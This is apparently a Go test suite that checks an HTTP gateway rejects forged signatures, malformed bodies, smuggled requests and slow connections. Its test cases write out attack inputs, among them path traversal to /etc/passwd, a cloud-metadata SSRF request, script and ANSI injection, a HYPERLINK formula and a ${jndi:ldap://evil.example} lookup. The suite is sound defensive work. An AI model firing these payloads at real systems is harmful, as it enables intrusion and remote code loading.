package gateway_test

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"firsthand"
	"firsthand/internal/gateway/gatewaytest"
	"firsthand/wire"
)

// nothing is the cost of what is refused.
var nothing = cost{}

// Calls that are signed wrongly, by the wrong one, for something else, or not now. Who
// calls for a relationship that isn't his and who calls for none get the same.
func TestHostileCustomerSignatures(t *testing.T) {
	s := newSiege(t, nil)
	own, other := s.p.Key(firsthand.First), gatewaytest.KeyOf("nobody")
	auth := func(f func(time, sig string) string) func(*shot) {
		return func(sh *shot) {
			parts := strings.Fields(sh.authorization())
			sh.header["Authorization"] = []string{f(parts[1], parts[2])}
		}
	}
	const no, late = "403 call-signature", "403 call-time"
	for _, tt := range []struct {
		name, want string
		change     func(*shot)
	}{
		{"no authorization", no, func(sh *shot) { sh.header.Del("Authorization") }},
		{"two authorizations", no, func(sh *shot) { sh.header["Authorization"] = []string{sh.authorization(), sh.authorization()} }},
		{"another scheme", no, auth(func(at, sig string) string { return "Bearer " + sig })},
		{"basic with a password", no, auth(func(at, sig string) string { return "Basic bWlhOnJvc2VidWQ=" })},
		{"scheme in lower case", no, auth(func(at, sig string) string { return "firsthand " + at + " " + sig })},
		{"one more field", no, auth(func(at, sig string) string { return "Firsthand " + at + " " + sig + " admin" })},
		{"two blanks", no, auth(func(at, sig string) string { return "Firsthand " + at + "  " + sig })},
		{"no signature", no, auth(func(at, sig string) string { return "Firsthand " + at })},
		{"an empty signature", no, auth(func(at, sig string) string { return "Firsthand " + at + " " })},
		{"a signature of zeros", no, auth(func(at, sig string) string { return "Firsthand " + at + " " + b64(make([]byte, 64)) })},
		{"half a signature", no, auth(func(at, sig string) string { return "Firsthand " + at + " " + sig[:43] })},
		{"a signature twice", no, auth(func(at, sig string) string { return "Firsthand " + at + " " + sig + sig })},
		{"a padded signature", no, auth(func(at, sig string) string { return "Firsthand " + at + " " + sig + "==" })},
		{"a bit of it turned", no, auth(func(at, sig string) string {
			return "Firsthand " + at + " " + string(rune('A'+(sig[0]-'A'+1)%26)) + sig[1:]
		})},
		{"a signature of ten thousand bytes", "403 call-signature|431", auth(func(at, sig string) string { return "Firsthand " + at + " " + strings.Repeat("A", 10_000) })},
		{"a time with an offset", no, auth(func(at, sig string) string { return "Firsthand " + strings.Replace(at, "Z", "+00:00", 1) + " " + sig })},
		{"a time with a fraction", no, auth(func(at, sig string) string { return "Firsthand " + strings.Replace(at, "Z", ".5Z", 1) + " " + sig })},
		{"the 31st of February", no, auth(func(at, sig string) string { return "Firsthand 2026-02-31T00:00:00Z " + sig })},
		{"another time than signed", no, auth(func(at, sig string) string { return "Firsthand 2026-11-21T21:48:01Z " + sig })},
		{"signed six minutes ago", late, func(sh *shot) { sh.signed.Time = sh.signed.Time.Add(-6 * time.Minute) }},
		{"signed a year ago", late, func(sh *shot) { sh.signed.Time = sh.signed.Time.AddDate(-1, 0, 0) }},
		{"signed six minutes ahead", late, func(sh *shot) { sh.signed.Time = sh.signed.Time.Add(6 * time.Minute) }},
		{"signed in the year 9999", late, func(sh *shot) { sh.signed.Time = time.Date(9999, 12, 31, 23, 59, 59, 0, time.UTC) }},
		{"signed in the year 1", late, func(sh *shot) { sh.signed.Time = time.Date(1, 1, 1, 0, 0, 0, 0, time.UTC) }},
		{"for another body", no, func(sh *shot) { sh.signed.Body = []byte("x") }},
		{"for another path", no, func(sh *shot) { sh.signed.Path = "/v1/open" }},
		{"for another host", no, func(sh *shot) { sh.signed.Host = "gw.other.example" }},
		{"for another method", no, func(sh *shot) { sh.signed.Method = "GET" }},
		{"with a query that isn't signed", no, func(sh *shot) { sh.path += "?as=mia" }},
		{"by a fresh key", no, func(sh *shot) { sh.key = other }},
		{"by Mia's next key", no, func(sh *shot) { sh.key = gatewaytest.KeyOf("mia next") }},
		{"by a key of another company", no, func(sh *shot) { sh.key = gatewaytest.KeyOf("company 9") }},
		{"from a browser", "403 call-browser", func(sh *shot) { sh.header.Set("Origin", "null") }},
		{"from a frame", "403 call-browser", func(sh *shot) { sh.header.Set("Sec-Fetch-Mode", "no-cors") }},
		{"from a form", "400 call-type", func(sh *shot) { sh.header.Set("Content-Type", "application/x-www-form-urlencoded") }},
		{"as text", "400 call-type", func(sh *shot) { sh.header.Set("Content-Type", "text/plain") }},
		{"as JSON", "400 call-type", func(sh *shot) { sh.header.Set("Content-Type", "application/json") }},
		{"with a charset", "400 call-type", func(sh *shot) { sh.header.Set("Content-Type", wire.ContentType+"; charset=utf-7") }},
		{"with two types", "400 call-type", func(sh *shot) { sh.header.Add("Content-Type", "text/html") }},
		{"without a type", "400 call-type", func(sh *shot) { sh.header.Del("Content-Type") }},
	} {
		s.attack(tt.name, tt.want, nothing, func() string { return s.call("/v1/sync", own, s.request(), tt.change) })
	}
	mias := wire.Request{Rel: s.mia.Rel()}
	for name, key := range map[string]*firsthand.Signer{"his key": own, "a fresh key": other, "her next key": gatewaytest.KeyOf("mia next")} {
		for _, path := range []string{"/v1/sync", "/v1/open"} {
			s.attack("Mia's relationship with "+name+" at "+path, "403 call-signature|400 batch-open", nothing, func() string { return s.call(path, key, mias, nil) })
		}
	}
	s.attack("Mia's opening, sent again by him", "403 call-signature", nothing, func() string {
		return s.call("/v1/open", own, wire.Request{Rel: s.mia.Rel(), Entries: s.mia.First[:1]}, nil)
	})
	s.attack("a relationship that is none", "403 call-signature", nothing, func() string { return s.call("/v1/sync", own, wire.Request{Rel: firsthand.ID{9}}, nil) })
	s.attack("his own call again", "200", nothing, func() string { return s.call("/v1/sync", own, s.request(), nil) })
	s.attack("his own opening again", "200", nothing, func() string { return s.call("/v1/open", own, s.request(s.p.Log(firsthand.First)[:1]...), nil) })
	s.attack("Mia's call, taken down and sent again late", "403 call-time", nothing, func() string {
		return s.call("/v1/sync", gatewaytest.KeyOf("mia"), wire.Request{Rel: s.mia.Rel(), First: s.mia.First[len(s.mia.First)-1].Head(), Second: s.mia.Second[len(s.mia.Second)-1].Head()},
			func(sh *shot) { sh.signed.Time = sh.signed.Time.Add(-5*time.Minute - time.Second) })
	})
}

// Bodies that are none.
func TestHostileCustomerBodies(t *testing.T) {
	s := newSiege(t, nil)
	own, honest := s.p.Key(firsthand.First), string(bodyOf(s.request()))
	packed := func() string {
		var b bytes.Buffer
		z := gzip.NewWriter(&b)
		io.WriteString(z, honest)
		z.Close()
		return b.String()
	}()
	swap := func(old, new string) string { return strings.Replace(honest, old, new, 1) }
	const form = "400 call-form"
	for _, tt := range []struct{ name, want, body string }{
		{"nothing", form, ""},
		{"a line feed", form, "\n"},
		{"no line feed", form, strings.TrimSpace(honest)},
		{"a carriage return", "200|400 call-form", swap("\n", "\r\n")},
		{"a list", form, "[]\n"},
		{"null", form, "null\n"},
		{"a byte order mark", form, "\ufeff" + honest},
		{"UTF-16", form, "\xff\xfe{\x00}\x00\n\x00"},
		{"bytes that are no UTF-8", form, swap(`"wait"`, "\"wa\xff\"")},
		{"a NUL", form, swap(`"wait":0`, "\"wait\":0\x00")},
		{"a depth bomb of lists", form, strings.Repeat("[", 4000) + "\n"},
		{"a depth bomb of objects", form, strings.Repeat(`{"a":`, 800) + "\n"},
		{"a depth bomb in a member", form, swap(`"wait":0`, `"wait":`+strings.Repeat("[", 3000)+strings.Repeat("]", 3000))},
		{"a member twice", form, swap(`"wait":0`, `"wait":0,"wait":0`)},
		{"rel twice, the second Mia's", form, swap(`"wait":0`, `"wait":0,"rel":"`+s.mia.Rel().String()+`"`)},
		{"rel in capitals besides", form, swap(`"wait":0`, `"wait":0,"REL":"`+s.mia.Rel().String()+`"`)},
		{"a member too many", form, swap(`"wait":0`, `"wait":0,"admin":true`)},
		{"a prototype", form, swap(`"wait":0`, `"wait":0,"__proto__":{}`)},
		{"a member missing", form, swap(`,"wait":0`, "")},
		{"a wait below zero", form, swap(`"wait":0`, `"wait":-1`)},
		{"half a second", form, swap(`"wait":0`, `"wait":0.5`)},
		{"a wait of text", form, swap(`"wait":0`, `"wait":"0"`)},
		{"a wait beyond all numbers", form, swap(`"wait":0`, `"wait":1e999`)},
		{"a wait of a thousand digits", form, swap(`"wait":0`, `"wait":`+strings.Repeat("9", 1000))},
		{"a seq below zero", form, swap(`"seq":1`, `"seq":-1`)},
		{"a seq above 2^53", form, swap(`"seq":1`, `"seq":9007199254740993`)},
		{"a seq with an exponent", form, swap(`"seq":1`, `"seq":1e0`)},
		{"a seq of text", form, swap(`"seq":1`, `"seq":"1"`)},
		{"an id that is too short", form, swap(`"rel":"`, `"rel":"A`)},
		{"an id with bits to spare", form + "|403 call-signature", swap(s.p.Rel().String(), s.p.Rel().String()[:42]+"_")},
		{"a first line of 5 KiB", form, swap(`"wait":0`, `"wait":0`+strings.Repeat(" ", 5<<10))},
		{"two first lines", "400 [a-z-]+", honest + honest},
		{"lines of nothing", "400 [a-z-]+", honest + "\n\n\n"},
		{"a line that is no entry", "400 [a-z-]+", honest + "a.b.c\n"},
		{"257 lines", "400 batch-size", honest + strings.Repeat("a.b.c\n", 257)},
		{"a million line feeds", "400 batch-size", honest + strings.Repeat("\n", 1<<20-1)},
		{"a line of a megabyte", "400 (batch-size|line-form|entry-form|entry-size|call-form)", honest + strings.Repeat("A", 1<<20-1) + "\n"},
		{"a body above the limit", "400 batch-size", honest + strings.Repeat("A", 1<<20+4<<10) + "\n"},
		{"gzip without a word", form, packed},
	} {
		s.attack(tt.name, tt.want, nothing, func() string { return s.shoot("/v1/sync", own, []byte(tt.body), nil) })
	}
	for _, coding := range []string{"gzip", "deflate", "br", "zstd", "identity, gzip"} {
		s.attack("coded as "+coding, form, nothing, func() string {
			return s.shoot("/v1/sync", own, []byte(packed), func(sh *shot) { sh.header.Set("Content-Encoding", coding) })
		})
	}
}

// HTTP that isn't, and paths that lead nowhere.
func TestHostileCustomerHTTP(t *testing.T) {
	s := newSiege(t, nil)
	post := "POST /v1/sync HTTP/1.1\r\nHost: " + s.host + "\r\nContent-Type: " + wire.ContentType + "\r\n"
	const refused = "(400|403|404|405|411|413|414|417|421|431|501|505)( [a-z-]+)?|cut off"
	for _, tt := range []struct{ name, text string }{
		{"chunked", post + "Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"},
		{"chunked, and a length", post + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x HTTP/1.1\r\n\r\n"},
		{"chunked twice", post + "Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n"},
		{"chunked, spelled oddly", post + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"},
		{"chunks with extensions", post + "Transfer-Encoding: chunked\r\n\r\n1;" + strings.Repeat("a", 8<<10) + "\r\nx\r\n0\r\n\r\n"},
		{"chunks of one byte", post + "Transfer-Encoding: chunked\r\n\r\n" + strings.Repeat("1\r\nx\r\n", 1000) + "0\r\n\r\n"},
		{"trailers", post + "Transfer-Encoding: chunked\r\nTrailer: Authorization\r\n\r\n0\r\nAuthorization: Firsthand\r\n\r\n"},
		{"two lengths", post + "Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!"},
		{"a length below zero", post + "Content-Length: -1\r\n\r\n"},
		{"a length with a sign", post + "Content-Length: +5\r\n\r\nhello"},
		{"a length in hex", post + "Content-Length: 0x5\r\n\r\nhello"},
		{"a length beyond all numbers", post + "Content-Length: 99999999999999999999\r\n\r\n"},
		{"a length of a terabyte", post + "Content-Length: 1099511627776\r\n\r\n"},
		{"no length", post + "\r\n"},
		{"HTTP/0.9", "GET /.well-known/firsthand\r\n\r\n"},
		{"HTTP/3.7", "GET / HTTP/3.7\r\nHost: a\r\n\r\n"},
		{"the preface of HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"},
		{"an upgrade to h2c", "GET /x HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"},
		{"a web socket", "GET /v1/sync HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n"},
		{"TLS", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n"},
		{"a proxy's request", "GET http://169.254.169.254/latest HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"},
		{"CONNECT", "CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: 127.0.0.1:22\r\n\r\n"},
		{"TRACE", "TRACE /v1/sync HTTP/1.1\r\nHost: a\r\n\r\n"},
		{"OPTIONS for all", "OPTIONS /v1/sync HTTP/1.1\r\nHost: a\r\nOrigin: https://evil.example\r\nAccess-Control-Request-Method: POST\r\n\r\n"},
		{"GET", "GET /v1/sync HTTP/1.1\r\nHost: a\r\n\r\n"},
		{"PUT", "PUT /v1/sync HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n"},
		{"DELETE", "DELETE /v1/open HTTP/1.1\r\nHost: a\r\n\r\n"},
		{"another method in a header", "GET /v1/sync HTTP/1.1\r\nHost: a\r\nX-HTTP-Method-Override: POST\r\n\r\n"},
		{"a method of control characters", "PO\x1b[31mST /v1/sync HTTP/1.1\r\nHost: a\r\n\r\n"},
		{"no host", "GET /v1/sync HTTP/1.1\r\n\r\n"},
		{"two hosts", "GET /v1/sync HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"},
		{"a host with a path", "GET /v1/sync HTTP/1.1\r\nHost: a/../b\r\n\r\n"},
		{"a header of 20 KiB", "GET /v1/sync HTTP/1.1\r\nHost: a\r\nX: " + strings.Repeat("x", 20<<10) + "\r\n\r\n"},
		{"five thousand headers", "GET /v1/sync HTTP/1.1\r\nHost: a\r\n" + strings.Repeat("X: y\r\n", 5000) + "\r\n"},
		{"a header's name of 20 KiB", "GET /v1/sync HTTP/1.1\r\nHost: a\r\n" + strings.Repeat("x", 20<<10) + ": y\r\n\r\n"},
		{"a blank before the colon", "GET /v1/sync HTTP/1.1\r\nHost: a\r\nX : y\r\n\r\n"},
		{"a folded header", post + "Authorization: Firsthand\r\n 2026\r\nContent-Length: 0\r\n\r\n"},
		{"a NUL in a header", "GET /v1/sync HTTP/1.1\r\nHost: a\r\nX: \x00\r\n\r\n"},
		{"a line feed alone in a header", "GET /v1/sync HTTP/1.1\r\nHost: a\r\nX: y\rZ: z\r\n\r\n"},
		{"a path of 20 KiB", "GET /" + strings.Repeat("a", 20<<10) + " HTTP/1.1\r\nHost: a\r\n\r\n"},
		{"a slash behind", "GET /v1/sync/ HTTP/1.1\r\nHost: a\r\n\r\n"},
		{"capitals", "GET /V1/Sync HTTP/1.1\r\nHost: a\r\n\r\n"},
		{"a path that is no UTF-8", "GET /%ff%fe HTTP/1.1\r\nHost: a\r\n\r\n"},
		{"a NUL in the path", "GET /v1/sync%00.html HTTP/1.1\r\nHost: a\r\n\r\n"},
		{"half an escape", "GET /v1/%6 HTTP/1.1\r\nHost: a\r\n\r\n"},
		{"a parameter in the path", "GET /v1/sync;jsessionid=1 HTTP/1.1\r\nHost: a\r\n\r\n"},
		{"a file of the machine, escaped", "GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n"},
		{"a file, by backslashes", "GET /..\\..\\etc\\passwd HTTP/1.1\r\nHost: a\r\n\r\n"},
		{"the profiler", "GET /debug/pprof/heap HTTP/1.1\r\nHost: a\r\n\r\n"},
		{"variables", "GET /debug/vars HTTP/1.1\r\nHost: a\r\n\r\n"},
		{"a folder of git", "GET /.git/config HTTP/1.1\r\nHost: a\r\n\r\n"},
		{"the configuration", "GET /gateway.json HTTP/1.1\r\nHost: a\r\n\r\n"},
		{"the database", "GET /gateway.db HTTP/1.1\r\nHost: a\r\n\r\n"},
		{"Mia's relationship as a path", "GET /v1/" + s.mia.Rel().String() + " HTTP/1.1\r\nHost: a\r\n\r\n"},
		{"nothing but line feeds", strings.Repeat("\n", 20<<10) + "GET / HTTP/1.1\r\n\r\n"},
		{"garbage", "\xff\x00\x1b]0;owned\x07\r\n\r\n"},
	} {
		s.attack(tt.name, refused, nothing, func() string { return s.raw(tt.text) })
	}
	for _, path := range []string{"/v1/../v1/sync", "/../../etc/passwd", "/v1/./sync", "//v1/sync", "/x/../.well-known/firsthand"} {
		s.attack("the path "+path, refused+"|30[178]", nothing, func() string { return s.raw("GET " + path + " HTTP/1.1\r\nHost: a\r\n\r\n") })
	}
}

// What is slow, or never comes, is cut off.
func TestHostileCustomerSlow(t *testing.T) {
	s := newSiege(t, func(_ *wire.Options, server *http.Server) {
		server.ReadHeaderTimeout, server.ReadTimeout = 300*time.Millisecond, 600*time.Millisecond
	})
	post := "POST /v1/sync HTTP/1.1\r\nHost: a\r\nContent-Type: " + wire.ContentType + "\r\n"
	texts := map[string]string{"nothing": "", "half a method": "PO", "half a request line": "POST /v1/sy", "half a header": post + "Autho", "no end of header": post,
		"no body": post + "Content-Length: 100\r\n\r\n", "half a body": post + "Content-Length: 100\r\n\r\n{\"rel\":", "a chunk of 2^63 bytes": post + "Transfer-Encoding: chunked\r\n\r\n8000000000000000\r\n", "half a chunk": post + "Transfer-Encoding: chunked\r\n\r\n5\r\nab",
		"a body that is asked for and never comes": post + "Content-Length: 100\r\nExpect: 100-continue\r\n\r\n"}
	before := s.spent()
	var all sync.WaitGroup
	for name, text := range texts {
		for range 5 {
			all.Go(func() {
				if got := s.raw(text); got != "cut off" && got != "400 call-form" && got != "408" && got != "100" && got != "400" {
					t.Errorf("%s: %s", name, got)
				}
			})
		}
	}
	all.Wait()
	if spent := s.spent().minus(before); spent != nothing {
		t.Errorf("it cost %+v", spent)
	}
}

// Entries of Mallory's, in calls that are his own: what his log may not have, what is
// another's, and what is the company's to say.
func TestHostileCustomerEntries(t *testing.T) {
	s := newSiege(t, nil)
	own := s.p.Key(firsthand.First)
	forge := func(change func(*firsthand.Entry), body string) func() string {
		return func() string {
			e := s.next()
			change(&e)
			return s.call("/v1/sync", own, s.request(s.p.Forge(s.t, e, body)), nil)
		}
	}
	const hello = `{"kind":"message","text":"hello"}`
	for _, tt := range []struct {
		name, want string
		change     func(*firsthand.Entry)
	}{
		{"a gap", "200|400 log-seq", func(e *firsthand.Entry) { e.Seq += 5 }},
		{"a seq of 2^53-1", "200|400 (log-seq|entry-form)", func(e *firsthand.Entry) { e.Seq = 1<<53 - 1 }},
		{"has seen what isn't there", "200|400 [a-z-]+", func(e *firsthand.Entry) { e.Seen.Seq = 999 }},
		{"has seen 2^53-1", "200|400 [a-z-]+", func(e *firsthand.Entry) { e.Seen.Seq = 1<<53 - 1 }},
		{"of Mia's relationship", "400 (batch-rel|log-rel)", func(e *firsthand.Entry) { e.Rel = s.mia.Rel() }},
	} {
		most := nothing
		if tt.name == "a gap" {
			most.lines = 1 // an honest agent would only leave one over what we lost: it is noted, now and then
		}
		s.attack(tt.name, tt.want, most, forge(tt.change, hello))
	}
	s.attack("the company's, signed by him", "400 entry-signature", nothing, func() string {
		e := s.next()
		e.Side, e.Seq, e.Prev, e.Seen = firsthand.Second, 2, s.ours.ID, firsthand.Head{Seq: 1, ID: s.p.Rel()}
		forged := s.p.Forge(s.t, e, hello)
		forged.Signed = slices.Clone(forged.Signed) // Forge has the company's key, he hasn't
		forged.Signed[len(forged.Signed)-20] ^= 1
		return s.call("/v1/sync", own, s.request(forged), nil)
	})
	s.attack("an entry of Mia's", "400 batch-rel", nothing, func() string { return s.call("/v1/sync", own, s.request(s.mia.First[1]), nil) })
	s.attack("an entry without its body", "400 [a-z-]+", nothing, func() string {
		return s.call("/v1/sync", own, s.request(s.p.Forge(s.t, s.next(), hello).WithoutBody()), nil)
	})
	s.attack("a body of 70 KiB", "400 [a-z-]+", nothing, func() string {
		e := s.p.Forge(s.t, s.next(), hello)
		body := bodyOf(s.request(e))
		return s.shoot("/v1/sync", own, append(body[:len(body)-1], strings.Repeat(" ", 70<<10)+"\n"...), nil)
	})
	// Opening: for others, in another role, with another's key.
	for _, tt := range []struct {
		name, want string
		company    gatewaytest.Company
	}{
		{"an opening for another company", "400 open-domain", gatewaytest.Company{Domain: "other.example", Key: s.keys.Chain[0].Key}},
		{"an opening that pins another key", "400 open-pinned", gatewaytest.Company{Key: gatewaytest.KeyOf("nobody").Public()}},
	} {
		s.attack(tt.name, tt.want, nothing, func() string {
			c := gatewaytest.NewCustomer(s.t, tt.name, tt.company)
			return s.call("/v1/open", c.Key, wire.Request{Rel: c.Rel(), Entries: c.First}, nil)
		})
	}
	s.attack("an opening without entries", "400 batch-open", nothing, func() string { return s.call("/v1/open", own, s.request(), nil) })

	// What is kept, since he may say what he likes in his own log, and has no effect:
	// the company's system isn't called.
	rel, mia := s.p.Rel().String(), s.mia.Rel().String()
	inert := cost{entries: 2, bytes: 6 << 10}
	for name, body := range map[string]string{
		"no JSON":                           "no JSON",
		"JSON of a thousand depths":         strings.Repeat("[", 1000) + strings.Repeat("]", 1000),
		"a kind of the future":              `{"kind":"of.the_future"}`,
		"a kind twice":                      `{"kind":"message","kind":"bound","text":"x"}`,
		"he says he is bound":               `{"kind":"bound","proof":"` + rel + `","system":"CRM","record":"C-1"}`,
		"he accepts his own terms":          `{"kind":"terms.accept","offer":"` + rel + `","terms":{"code":"A","version":"1","hash":"` + rel + `","url":""}}`,
		"he says it is applied":             `{"kind":"applied","entry":"` + rel + `","system":"CRM","record":"C-1"}`,
		"he refuses for the company":        `{"kind":"refused","entry":"` + rel + `","reason":"x"}`,
		"he says what the company holds":    `{"kind":"holds","fact":"credit","value":"good","origin":"observed"}`,
		"he asks as the company":            `{"kind":"ask","fact":"email","purpose":"Marketing","why":"x"}`,
		"he challenges himself":             `{"kind":"challenge","claim":"` + rel + `","way":"code","to":"x","until":"2027-01-01"}`,
		"he answers for the company":        `{"kind":"answer","request":"` + rel + `","outcome":"done"}`,
		"a fact without a basis":            `{"kind":"disclose","fact":"email","value":"x@y.example","purpose":"P","basis":{}}`,
		"a fact by an agreement of nobody":  `{"kind":"disclose","fact":"email","value":"x@y.example","purpose":"P","basis":{"agreement":"` + mia + `"}}`,
		"a withdrawal of Mia's":             `{"kind":"withdraw","disclosure":"` + s.mia.First[1].ID.String() + `"}`,
		"an answer to an ask of nobody":     `{"kind":"decline","ask":"` + mia + `"}`,
		"a proof without a challenge":       `{"kind":"proof","challenge":"` + mia + `","code":"000000"}`,
		"terms taken that nobody countered": `{"kind":"terms.take","counter":"` + mia + `"}`,
		"the end of no agreement":           `{"kind":"terms.end","agreement":"` + mia + `","from":"2027-01-01"}`,
		"he erases Mia's":                   `{"kind":"erased","entries":[{"id":"` + s.mia.First[1].ID.String() + `","kind":"message"}]}`,
	} {
		s.attack(name, "200|400 erased-unknown", inert, func() string { return s.write(body) })
	}
	// A claim costs one message to the contact on record, and says nothing of it.
	s.attack("a claim on Mia's record", "200", cost{entries: 3, bytes: 4 << 10, calls: 4}, func() string { return s.write(`{"kind":"claim","record":"C-1"}`) })
	for i := range 8 {
		s.attack(fmt.Sprint("a guessed code, ", i), "200|503 [a-z-]+", cost{entries: 3, bytes: 5 << 10, calls: 4}, func() string {
			second, err := firsthand.Collect(s.store.Entries(s.ctx(), s.p.Rel(), firsthand.Second, 0))
			if err != nil {
				s.t.Fatal(err)
			}
			s.ours = second[len(second)-1]
			return s.write(fmt.Sprintf(`{"kind":"proof","challenge":"%s","code":"%06d"}`, s.ours.ID, i))
		})
	}
	// What forks his own log is kept as proof against him, within a bound, and freezes it.
	for i := range 3 {
		s.attack(fmt.Sprint("a second branch, ", i), "409 log-fork", cost{entries: 1, bytes: 1 << 10}, forge(func(e *firsthand.Entry) { e.Prev = firsthand.ID{byte(i + 1)} }, hello))
	}
	if len(s.crm.redacted) > 0 {
		t.Errorf("redacted: %v", s.crm.redacted)
	}
}

// Script, ANSI, formulas and broken lines in every field that is his: they arrive as
// text, never in a subject of more than a line, and never in the log.
func TestHostileCustomerText(t *testing.T) {
	s := newSiege(t, nil)
	fields := map[string]string{
		"a message":            `{"kind":"message","text":%s}`,
		"the name of a blob":   `{"kind":"message","text":"x","blobs":[{"hash":"` + s.p.Rel().String() + `","size":1,"media":"text/html","name":%s}]}`,
		"a request":            `{"kind":"request","right":"access","law":"GDPR","text":%s,"due":"2026-12-21"}`,
		"the scope of one":     `{"kind":"request","right":"access","law":"GDPR","scope":%s,"due":"2026-12-21"}`,
		"the law of one":       `{"kind":"request","right":"access","law":%s,"due":"2026-12-21"}`,
		"a claim":              `{"kind":"claim","record":%s}`,
		"the system of one":    `{"kind":"claim","system":%s,"record":"C-9"}`,
		"a value":              `{"kind":"disclose","fact":"nickname","value":%s,"purpose":"P","basis":{"exception":"x"}}`,
		"a part of a value":    `{"kind":"disclose","fact":"address.home","value":{"street":%s},"purpose":"P","basis":{"exception":"x"}}`,
		"the name of a fact":   `{"kind":"disclose","fact":%s,"value":"x","purpose":"P","basis":{"exception":"x"}}`,
		"a purpose":            `{"kind":"disclose","fact":"nickname","value":"x","purpose":%s,"basis":{"exception":"x"}}`,
		"an exception":         `{"kind":"disclose","fact":"nickname","value":"x","purpose":"P","basis":{"exception":%s}}`,
		"the code of terms":    `{"kind":"terms.offer","terms":[{"code":%s,"version":"1","hash":"` + s.p.Rel().String() + `","url":""}]}`,
		"the address of terms": `{"kind":"terms.offer","terms":[{"code":"A","version":"1","hash":"` + s.p.Rel().String() + `","url":%s}]}`,
	}
	texts := map[string]string{
		"script":             `<script>alert(\"owned\")</script>`,
		"ANSI":               `\u001b[2J\u001b]0;owned\u0007`,
		"a formula":          `=HYPERLINK(\"https://evil.example/owned\")`,
		"a broken line":      `owned\r\nBcc: all@evil.example`,
		"text turned around": `\u202eowned\u2066`,
		"a format":           `%s%n owned {{.}} ${jndi:ldap://evil.example}`,
	}
	for field, body := range fields {
		for name, text := range texts {
			before := len(s.crm.requests)
			s.attack(name+" in "+field, "200|400 [a-z-]+", cost{entries: 3, bytes: 8 << 10, calls: 6}, func() string {
				return s.write(fmt.Sprintf(body, `"`+text+`"`))
			})
			for _, r := range s.crm.requests[before:] {
				if strings.IndexAny(r.Subject, "=+-@") == 0 || strings.ContainsFunc(r.Subject, func(c rune) bool { return unicode.IsControl(c) || c == 0x202e || c == 0x2066 || c == 0x2028 }) {
					t.Errorf("%s in %s: subject %q", name, field, r.Subject)
				}
			}
		}
	}
	if strings.Contains(s.log.String(), "owned") {
		t.Errorf("the log has it:\n%s", s.log)
	}
	for _, m := range s.crm.sent {
		if strings.Contains(m.Subject+m.Text, "owned") {
			t.Errorf("sent to Mia: %q", m.Text)
		}
	}
}

// Many at once: openings are limited, waits are few, and Mia is answered meanwhile.
func TestHostileCustomerMany(t *testing.T) {
	s := newSiege(t, func(o *wire.Options, _ *http.Server) {
		o.OpenEach, o.MaxPolls = wire.Limit{Rate: 0.001, Burst: 10}, 8
	})
	s.attack("fifty openings at once", "ok", cost{entries: 2 * 9, bytes: 9 << 12}, func() string {
		var mu sync.Mutex
		got := map[string]int{}
		var all sync.WaitGroup
		for i := range 50 {
			c := gatewaytest.NewCustomer(s.t, fmt.Sprint("fresh ", i), gatewaytest.Company{Key: s.keys.Chain[0].Key})
			all.Go(func() {
				outcome := s.call("/v1/open", c.Key, wire.Request{Rel: c.Rel(), First: c.First[0].Head(), Entries: c.First}, nil)
				mu.Lock()
				defer mu.Unlock()
				got[outcome]++
			})
		}
		all.Wait()
		if got["200"] != 9 || got["429 call-rate"] != 41 {
			return fmt.Sprint(got)
		}
		return "ok"
	})
	s.attack("a hundred waits of one relationship", "ok", nothing, func() string {
		// Those that may not wait are answered at once; the others are when they hang up.
		answered := make(chan struct{}, 100)
		var conns []net.Conn
		for range 100 {
			r := s.request()
			r.Wait = 50 * time.Second
			body := bodyOf(r)
			sh := &shot{signed: firsthand.Call{Method: "POST", Host: s.host, Path: "/v1/sync", Time: s.now, Body: body}, key: s.p.Key(firsthand.First)}
			conn, err := net.Dial("tcp", s.host)
			if err != nil {
				return err.Error()
			}
			conns = append(conns, conn)
			fmt.Fprintf(conn, "POST /v1/sync HTTP/1.1\r\nHost: a\r\nContent-Type: %s\r\nAuthorization: %s\r\nContent-Length: %d\r\n\r\n%s", wire.ContentType, sh.authorization(), len(body), body)
			go func() {
				conn.SetReadDeadline(time.Now().Add(time.Minute))
				if n, _ := conn.Read(make([]byte, 64)); n > 0 {
					answered <- struct{}{}
				}
			}()
		}
		for range 96 {
			<-answered
		}
		for _, conn := range conns {
			conn.Close()
		}
		return "ok"
	})
	mia := wire.Request{Rel: s.mia.Rel(), First: s.mia.First[len(s.mia.First)-1].Head(), Second: s.mia.Second[len(s.mia.Second)-1].Head()}
	s.t = t
	body := bodyOf(mia)
	sh := &shot{signed: firsthand.Call{Method: "POST", Host: s.host, Path: "/v1/sync", Time: s.now, Body: body}, key: gatewaytest.KeyOf("mia")}
	req, _ := http.NewRequest("POST", "http://"+s.host+"/v1/sync", bytes.NewReader(body))
	req.Header = http.Header{"Content-Type": {wire.ContentType}, "Authorization": {sh.authorization()}}
	resp, err := http.DefaultTransport.RoundTrip(req)
	if err != nil || resp.StatusCode != 200 {
		t.Errorf("Mia meanwhile: %v, %v", resp, err)
	}
}
